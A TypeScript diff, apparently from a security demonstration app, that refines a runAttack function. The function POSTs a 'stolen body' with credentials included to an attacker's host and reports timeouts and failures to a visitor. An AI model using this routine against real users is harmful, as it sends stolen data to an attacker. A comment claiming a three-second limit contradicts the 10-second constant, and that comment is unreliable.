@@ -1,5 +1,11 @@
 import { joinHistory } from '@/lib/ota/history'
+import { whyNoAnswer } from './call-result'
+import type { Outcome } from './outcome'
+import { withTimeLimit } from './time-limit'
 import type { UserInfo } from './user-info'
+
+/** The attacker host gives its target three seconds. */
+const ANSWER_LIMIT_MS = 10_000
 
 /** What the attacker answers: its verdict, also when the HTTP status is 200. */
 interface AttackVerdict {
@@ -30,7 +36,7 @@ export const cloningBody = (user: UserInfo, url: string) => ({
   url,
 })
 
-/** What is posted to the attacker: names and values of spec §7, calls 6 to 8. */
+/** What was sent, to be shown; to the attacker the names and values of spec §7, calls 6 to 8. */
 export type AttackBody = Readonly<Record<string, string>>
 
 /** Null unless the value is a verdict. */
@@ -42,28 +48,38 @@ export function readVerdict(value: unknown): AttackVerdict | null {
 }
 
 /** A verdict, whatever it says, or why there is none, in words for the visitor. */
-export type AttackOutcome = { ok: true; verdict: AttackVerdict } | { ok: false; message: string }
+export type AttackAnswer =
+  | { ok: true; verdict: AttackVerdict }
+  | { ok: false; outcome: Exclude<Outcome, 'in' | 'held'>; message: string }
 
-/** Sends a stolen body to the attacker's host; a failure is an outcome, never a rejection. */
+const SILENCE = {
+  offline: 'No answer: this device is offline.',
+  timeout: 'The attacker host did not answer in 10 s.',
+  unreachable: 'The attacker host could not be reached.',
+}
+
+/** Sends a stolen body to the attacker's host; a failure is an answer, never a rejection. */
 export async function runAttack(
   fetchFn: typeof fetch,
   endpoint: string,
   body: AttackBody,
   signal: AbortSignal,
-): Promise<AttackOutcome> {
+  isOnline = true,
+): Promise<AttackAnswer> {
   try {
     const response = await fetchFn(endpoint, {
       method: 'POST',
       headers: { 'Content-Type': 'application/json' },
       credentials: 'include',
       body: JSON.stringify(body),
-      signal,
+      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
     })
     const verdict = readVerdict(await response.json().catch(() => null))
-    return verdict
-      ? { ok: true, verdict }
-      : { ok: false, message: 'The attacker host sent an answer that cannot be read.' }
-  } catch {
-    return { ok: false, message: 'The attacker host could not be reached.' }
+    if (verdict) return { ok: true, verdict }
+    const message = 'The attacker host sent an answer that cannot be read.'
+    return { ok: false, outcome: 'no-verdict', message }
+  } catch (error) {
+    const message = SILENCE[whyNoAnswer(error, isOnline)]
+    return { ok: false, outcome: 'no-answer', message }
   }
 }
